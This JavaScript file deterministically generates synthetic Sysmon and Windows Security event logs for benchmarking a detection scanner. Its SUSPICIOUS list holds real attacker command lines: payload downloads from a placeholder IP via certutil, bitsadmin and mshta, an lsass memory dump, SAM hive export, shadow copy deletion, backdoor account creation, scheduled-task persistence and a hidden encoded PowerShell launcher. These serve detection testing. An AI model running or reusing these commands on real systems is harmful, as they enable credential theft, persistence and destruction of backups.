// Deterministic generator of Sysmon/Security-shaped Windows events as flat JSON lines (the shape of
// ../shared/real-logs: Provider_Name, EventID, Channel, Computer, TimeCreated, EventRecordID, then the
// EventData fields at top level with their Sysmon/Security names).
//
// The same (events, seed) always produces the same bytes, so benchmark figures are comparable run to
// run. A small share of process creations carry real attacker command lines, so a scan does produce
// alerts the way a real estate would, instead of measuring only the "nothing matches" path.
//
// Usage: node bench/generate-events.mjs [--events N] [--seed S] [--out FILE]
import { closeSync, mkdirSync, openSync, writeSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

/** Bumped whenever the output for a given (events, seed) changes; part of the cached file name. */
export const GENERATOR_VERSION = 2;

/** mulberry32: a tiny, fast, seeded PRNG (not for crypto). Returns floats in [0, 1). */
export function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SYSMON = { Provider_Name: 'Microsoft-Windows-Sysmon', Channel: 'Microsoft-Windows-Sysmon/Operational' };
const SECURITY = { Provider_Name: 'Microsoft-Windows-Security-Auditing', Channel: 'Security' };

const HOSTS = ['WKS-0142.corp.example.com', 'WKS-0877.corp.example.com', 'LAP-2231.corp.example.com', 'SRV-FS01.corp.example.com', 'SRV-DC01.corp.example.com', 'SRV-SQL02.corp.example.com'];
const USERS = ['CORP\\alice.martin', 'CORP\\bob.nguyen', 'CORP\\carol.smith', 'CORP\\svc_backup', 'NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\LOCAL SERVICE', 'NT AUTHORITY\\NETWORK SERVICE'];

// [Image, OriginalFileName, Description, Company, typical command lines, usual parent images]
const EXPLORER = 'C:\\Windows\\explorer.exe';
const SERVICES = 'C:\\Windows\\System32\\services.exe';
const SVCHOST = 'C:\\Windows\\System32\\svchost.exe';
const USERINIT = 'C:\\Windows\\System32\\userinit.exe';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const PROGRAMS = [
  [SVCHOST, 'svchost.exe', 'Host Process for Windows Services', 'Microsoft Corporation', ['C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p', 'C:\\Windows\\System32\\svchost.exe -k wsappx -p -s AppXSvc'], [SERVICES]],
  [EXPLORER, 'EXPLORER.EXE', 'Windows Explorer', 'Microsoft Corporation', ['C:\\Windows\\Explorer.EXE'], [USERINIT]],
  [CHROME, 'chrome.exe', 'Google Chrome', 'Google LLC', ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService'], [CHROME, EXPLORER]],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'Outlook.exe', 'Microsoft Outlook', 'Microsoft Corporation', ['"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE" /recycle'], [EXPLORER]],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'WinWord.exe', 'Microsoft Word', 'Microsoft Corporation', ['"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice.martin\\Documents\\Q3 report.docx"'], [EXPLORER]],
  ['C:\\Windows\\System32\\RuntimeBroker.exe', 'RuntimeBroker.exe', 'Runtime Broker', 'Microsoft Corporation', ['C:\\Windows\\System32\\RuntimeBroker.exe -Embedding'], [SVCHOST]],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe', 'Host Process for Windows Tasks', 'Microsoft Corporation', ['taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}'], [SVCHOST]],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'PowerShell.EXE', 'Windows PowerShell', 'Microsoft Corporation', ['"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', 'powershell.exe Get-ChildItem C:\\Users\\Public'], [EXPLORER]],
  ['C:\\Windows\\System32\\cmd.exe', 'Cmd.Exe', 'Windows Command Processor', 'Microsoft Corporation', ['"C:\\Windows\\system32\\cmd.exe"', 'cmd.exe /c "C:\\Scripts\\logon.bat"'], [EXPLORER]],
  ['C:\\Windows\\System32\\msiexec.exe', 'msiexec.exe', 'Windows installer', 'Microsoft Corporation', ['C:\\Windows\\system32\\msiexec.exe /V', 'C:\\Windows\\System32\\MsiExec.exe -Embedding 4F3A0D2B1C8E9F7A6B5C4D3E2F1A0B9C'], [SERVICES]],
  ['C:\\Program Files\\Windows Defender\\MsMpEng.exe', 'MsMpEng.exe', 'Antimalware Service Executable', 'Microsoft Corporation', ['"C:\\Program Files\\Windows Defender\\MsMpEng.exe"'], [SERVICES]],
  ['C:\\Windows\\System32\\SearchIndexer.exe', 'SearchIndexer.exe', 'Microsoft Windows Search Indexer', 'Microsoft Corporation', ['C:\\Windows\\system32\\SearchIndexer.exe /Embedding'], [SERVICES]],
  ['C:\\Program Files\\Microsoft VS Code\\Code.exe', 'electron.exe', 'Visual Studio Code', 'Microsoft Corporation', ['"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=gpu-process'], [EXPLORER]],
  ['C:\\Windows\\System32\\backgroundTaskHost.exe', 'backgroundTaskHost.exe', 'Background Task Host', 'Microsoft Corporation', ['"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca'], [SVCHOST]],
];
// Processes that talk to the network, and where to.
const NET_CLIENTS = [CHROME, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', SVCHOST, 'C:\\Program Files\\Windows Defender\\MsMpEng.exe', 'C:\\Program Files\\Microsoft VS Code\\Code.exe'];

// Attacker tradecraft seen in real intrusions: [Image, OriginalFileName, CommandLine]. About 1 in 500
// process creations is one of these.
const SUSPICIOUS = [
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'PowerShell.EXE', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
  ['C:\\Windows\\System32\\certutil.exe', 'CertUtil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.50/p.exe C:\\Users\\Public\\p.exe'],
  ['C:\\Windows\\System32\\rundll32.exe', 'RUNDLL32.EXE', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 664 C:\\Windows\\Temp\\lsass.dmp full'],
  ['C:\\Windows\\System32\\vssadmin.exe', 'VSSADMIN.EXE', 'vssadmin.exe delete shadows /all /quiet'],
  ['C:\\Windows\\System32\\reg.exe', 'reg.exe', 'reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save'],
  ['C:\\Windows\\System32\\schtasks.exe', 'schtasks.exe', 'schtasks.exe /create /sc onlogon /tn "OneDrive Updater" /tr C:\\Users\\Public\\upd.exe /ru SYSTEM /f'],
  ['C:\\Windows\\System32\\whoami.exe', 'whoami.exe', 'whoami.exe /priv'],
  ['C:\\Windows\\System32\\net.exe', 'net.exe', 'net.exe user backdoor P@ssw0rd! /add'],
  ['C:\\Windows\\System32\\mshta.exe', 'MSHTA.EXE', 'mshta.exe javascript:a=GetObject("script:http://203.0.113.50/a.sct").Exec();close()'],
  ['C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin.exe', 'bitsadmin.exe /transfer job /download /priority high http://203.0.113.50/x.ps1 C:\\Users\\Public\\x.ps1'],
];

const DLLS = ['C:\\Windows\\System32\\ntdll.dll', 'C:\\Windows\\System32\\kernel32.dll', 'C:\\Windows\\System32\\KernelBase.dll', 'C:\\Windows\\System32\\advapi32.dll', 'C:\\Windows\\System32\\combase.dll', 'C:\\Windows\\System32\\user32.dll', 'C:\\Windows\\System32\\crypt32.dll', 'C:\\Windows\\System32\\wininet.dll', 'C:\\Windows\\System32\\ws2_32.dll', 'C:\\Windows\\System32\\amsi.dll', 'C:\\Windows\\System32\\clr.dll', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clrjit.dll'];
const DOMAINS = ['www.google.com', 'login.microsoftonline.com', 'outlook.office365.com', 'update.googleapis.com', 'settings-win.data.microsoft.com', 'github.com', 'cdn.jsdelivr.net', 'wpad.corp.example.com', 'fs01.corp.example.com', 'ctldl.windowsupdate.com', 'slack.com', 'api.zoom.us'];
const FILE_DIRS = ['C:\\Users\\alice.martin\\AppData\\Local\\Temp', 'C:\\Users\\bob.nguyen\\Downloads', 'C:\\Windows\\Temp', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans', 'C:\\Users\\carol.smith\\AppData\\Roaming\\Microsoft\\Windows\\Recent', 'C:\\Windows\\Prefetch'];
const FILE_EXTS = ['.tmp', '.log', '.docx', '.xlsx', '.pf', '.lnk', '.dat', '.json', '.etl', '.zip'];
const REG_KEYS = [
  'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx',
  'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004336348-1177238915-682003330-1104\\\\Device\\HarddiskVolume3\\Windows\\explorer.exe',
  'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated',
  'HKU\\S-1-5-21-1004336348-1177238915-682003330-1105\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities',
  'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\HRZR_PGYFRFFVBA',
  'HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime',
];

function hex(rand, n) {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789ABCDEF'[Math.floor(rand() * 16)];
  return s;
}

/** Returns a function producing event number i (0-based) as a flat object. */
export function eventFactory(seed) {
  const rand = prng(seed);
  const pick = (list) => list[Math.floor(rand() * list.length)];
  const int = (lo, hi) => lo + Math.floor(rand() * (hi - lo + 1));
  const guid = () => `{${hex(rand, 8)}-${hex(rand, 4)}-${hex(rand, 4)}-${hex(rand, 4)}-${hex(rand, 12)}}`;
  const hashes = () => `SHA1=${hex(rand, 40)},MD5=${hex(rand, 32)},SHA256=${hex(rand, 64)},IMPHASH=${hex(rand, 32)}`;
  const base = Date.UTC(2026, 2, 2, 8, 0, 0);

  function header(i, source, eventId) {
    const ms = base + i * 37; // ~27 events/s per estate, monotonic
    const iso = new Date(ms).toISOString();
    return {
      ev: { ...source, EventID: eventId, Version: '5', Level: '4', TimeCreated: iso.replace('T', ' ').replace('Z', ''), EventRecordID: String(1000000 + i), Computer: pick(HOSTS) },
      utc: iso.replace('T', ' ').slice(0, 23),
    };
  }

  function processCreation(i) {
    const { ev, utc } = header(i, SYSMON, 1);
    let image, ofn, desc, company, cmd, parentImage;
    if (rand() < 0.002) {
      [image, ofn, cmd] = pick(SUSPICIOUS);
      desc = ''; company = 'Microsoft Corporation';
      parentImage = pick(['C:\\Windows\\System32\\cmd.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe']);
    } else {
      const p = pick(PROGRAMS);
      [image, ofn, desc, company] = p;
      cmd = pick(p[4]);
      parentImage = pick(p[5]);
    }
    const parentCmd = PROGRAMS.find((p) => p[0] === parentImage)?.[4][0] ?? parentImage;
    return Object.assign(ev, {
      RuleName: '-', UtcTime: utc, ProcessGuid: guid(), ProcessId: int(300, 20000), Image: image, FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
      Description: desc, Product: 'Microsoft® Windows® Operating System', Company: company, OriginalFileName: ofn, CommandLine: cmd,
      CurrentDirectory: 'C:\\Windows\\system32\\', User: pick(USERS), LogonGuid: guid(), LogonId: `0x${hex(rand, 6).toLowerCase()}`,
      TerminalSessionId: int(0, 2), IntegrityLevel: pick(['Medium', 'High', 'System']), Hashes: hashes(),
      ParentProcessGuid: guid(), ParentProcessId: int(300, 20000), ParentImage: parentImage, ParentCommandLine: parentCmd, ParentUser: pick(USERS),
    });
  }

  function networkConnection(i) {
    const { ev, utc } = header(i, SYSMON, 3);
    const out = rand() < 0.85;
    return Object.assign(ev, {
      RuleName: '-', UtcTime: utc, ProcessGuid: guid(), ProcessId: int(300, 20000), Image: out ? pick(NET_CLIENTS) : 'System', User: pick(USERS), Protocol: 'tcp',
      Initiated: out ? 'true' : 'false', SourceIsIpv6: 'false', SourceIp: `10.20.${int(0, 3)}.${int(2, 254)}`, SourceHostname: '-', SourcePort: int(49152, 65535), SourcePortName: '-',
      DestinationIsIpv6: 'false', DestinationIp: out ? `${pick(['142.250', '20.190', '13.107', '52.96', '140.82'])}.${int(0, 255)}.${int(1, 254)}` : `10.20.0.${int(2, 40)}`,
      DestinationHostname: out ? pick(DOMAINS) : '-', DestinationPort: out ? pick([443, 443, 443, 80]) : pick([445, 135, 389]), DestinationPortName: '-',
    });
  }

  function fileCreate(i) {
    const { ev, utc } = header(i, SYSMON, 11);
    return Object.assign(ev, {
      RuleName: '-', UtcTime: utc, ProcessGuid: guid(), ProcessId: int(300, 20000), Image: pick(PROGRAMS)[0],
      TargetFilename: `${pick(FILE_DIRS)}\\${hex(rand, 8).toLowerCase()}${pick(FILE_EXTS)}`, CreationUtcTime: utc, User: pick(USERS),
    });
  }

  function registry(i) {
    const set = rand() < 0.8;
    const { ev, utc } = header(i, SYSMON, set ? 13 : 12);
    const fields = {
      RuleName: '-', EventType: set ? 'SetValue' : pick(['CreateKey', 'DeleteKey', 'DeleteValue']), UtcTime: utc, ProcessGuid: guid(), ProcessId: int(300, 20000),
      Image: pick(PROGRAMS)[0], TargetObject: pick(REG_KEYS), User: pick(USERS),
    };
    if (set) fields.Details = pick(['DWORD (0x00000001)', 'DWORD (0x00000000)', `QWORD (0x01d${hex(rand, 5).toLowerCase()}-0x${hex(rand, 8).toLowerCase()})`, 'Binary Data']);
    return Object.assign(ev, fields);
  }

  function dnsQuery(i) {
    const { ev, utc } = header(i, SYSMON, 22);
    return Object.assign(ev, {
      RuleName: '-', UtcTime: utc, ProcessGuid: guid(), ProcessId: int(300, 20000), QueryName: pick(DOMAINS), QueryStatus: '0',
      QueryResults: `type:  5 edge.example.net;::ffff:${int(13, 200)}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)};`, Image: pick(PROGRAMS)[0], User: pick(USERS),
    });
  }

  function imageLoad(i) {
    const { ev, utc } = header(i, SYSMON, 7);
    const dll = pick(DLLS);
    return Object.assign(ev, {
      RuleName: '-', UtcTime: utc, ProcessGuid: guid(), ProcessId: int(300, 20000), Image: pick(PROGRAMS)[0], ImageLoaded: dll,
      FileVersion: '10.0.19041.3636 (WinBuild.160101.0800)', Description: 'Windows library', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation',
      OriginalFileName: dll.slice(dll.lastIndexOf('\\') + 1), Hashes: hashes(), Signed: 'true', Signature: 'Microsoft Windows', SignatureStatus: 'Valid', User: pick(USERS),
    });
  }

  function processAccess(i) {
    const { ev, utc } = header(i, SYSMON, 10);
    return Object.assign(ev, {
      RuleName: '-', UtcTime: utc, SourceProcessGUID: guid(), SourceProcessId: int(300, 20000), SourceThreadId: int(300, 20000), SourceImage: pick(PROGRAMS)[0],
      TargetProcessGUID: guid(), TargetProcessId: int(300, 20000), TargetImage: pick(['C:\\Windows\\system32\\lsass.exe', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\Explorer.EXE', 'C:\\Windows\\system32\\csrss.exe']),
      GrantedAccess: pick(['0x1000', '0x1400', '0x1410', '0x101000', '0x40']),
      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2730e|C:\\Windows\\System32\\svchost.exe+3a1f',
      SourceUser: pick(USERS), TargetUser: 'NT AUTHORITY\\SYSTEM',
    });
  }

  function logon(i) {
    const failed = rand() < 0.15;
    const { ev } = header(i, SECURITY, failed ? 4625 : 4624);
    const user = pick(USERS).split('\\')[1];
    const fields = {
      SubjectUserSid: 'S-1-5-18', SubjectUserName: `${ev.Computer.split('.')[0]}$`, SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7',
      TargetUserSid: `S-1-5-21-1004336348-1177238915-682003330-${int(1100, 1200)}`, TargetUserName: user, TargetDomainName: 'CORP',
      LogonType: pick([2, 3, 3, 3, 5, 10]), LogonProcessName: pick(['User32 ', 'NtLmSsp ', 'Kerberos', 'Advapi  ']), AuthenticationPackageName: pick(['Negotiate', 'NTLM', 'Kerberos']),
      WorkstationName: ev.Computer.split('.')[0], ProcessId: `0x${hex(rand, 3).toLowerCase()}`, ProcessName: 'C:\\Windows\\System32\\lsass.exe',
      IpAddress: `10.20.${int(0, 3)}.${int(2, 254)}`, IpPort: String(int(49152, 65535)),
    };
    if (failed) Object.assign(fields, { Status: '0xc000006d', FailureReason: '%%2313', SubStatus: pick(['0xc000006a', '0xc0000064']) });
    else Object.assign(fields, { TargetLogonId: `0x${hex(rand, 7).toLowerCase()}`, LogonGuid: guid(), ImpersonationLevel: '%%1833', ElevatedToken: '%%1842' });
    return Object.assign(ev, fields);
  }

  function securityProcessCreation(i) {
    const { ev } = header(i, SECURITY, 4688);
    const p = pick(PROGRAMS);
    return Object.assign(ev, {
      SubjectUserSid: 'S-1-5-18', SubjectUserName: 'SYSTEM', SubjectDomainName: 'NT AUTHORITY', SubjectLogonId: '0x3e7',
      NewProcessId: `0x${hex(rand, 4).toLowerCase()}`, NewProcessName: p[0], TokenElevationType: '%%1936', ProcessId: `0x${hex(rand, 4).toLowerCase()}`,
      CommandLine: pick(p[4]), TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0',
      ParentProcessName: pick(p[5]), MandatoryLabel: 'S-1-16-16384',
    });
  }

  // Cumulative mix, roughly what a Sysmon-instrumented estate produces.
  const MIX = [
    [0.18, processCreation], [0.33, networkConnection], [0.45, fileCreate], [0.60, registry], [0.70, dnsQuery],
    [0.85, imageLoad], [0.90, processAccess], [0.97, logon], [1.0, securityProcessCreation],
  ];
  return (i) => {
    const r = rand();
    for (const [limit, make] of MIX) if (r < limit) return make(i);
    return processCreation(i);
  };
}

/** Writes `events` JSON lines to `file`; returns the byte count. Deterministic for a given seed. */
export function generateEventsFile({ events, seed, file }) {
  mkdirSync(path.dirname(file), { recursive: true });
  const make = eventFactory(seed);
  const fd = openSync(file, 'w');
  let bytes = 0;
  try {
    const batch = [];
    for (let i = 0; i < events; i++) {
      batch.push(JSON.stringify(make(i)));
      if (batch.length === 5000 || i === events - 1) {
        const chunk = batch.join('\n') + '\n';
        bytes += writeSync(fd, chunk);
        batch.length = 0;
      }
    }
  } finally {
    closeSync(fd);
  }
  return bytes;
}

function parseArgs(argv) {
  const opts = { events: 1_000_000, seed: 1, out: null };
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    if (a === '--events') opts.events = Number(argv[++i]);
    else if (a === '--seed') opts.seed = Number(argv[++i]);
    else if (a === '--out') opts.out = argv[++i];
    else throw new Error(`unknown option ${a} (use --events N --seed S --out FILE)`);
  }
  if (!Number.isInteger(opts.events) || opts.events < 1) throw new Error('--events must be a positive integer');
  return opts;
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const opts = parseArgs(process.argv.slice(2));
  const here = path.dirname(fileURLToPath(import.meta.url));
  const file = opts.out ?? path.join(here, 'out', `events-${opts.events}-seed${opts.seed}-v${GENERATOR_VERSION}.jsonl`);
  const t0 = performance.now();
  const bytes = generateEventsFile({ events: opts.events, seed: opts.seed, file });
  console.log(`wrote ${opts.events} events (${(bytes / 1e6).toFixed(1)} MB) to ${file} in ${((performance.now() - t0) / 1000).toFixed(1)} s`);
}
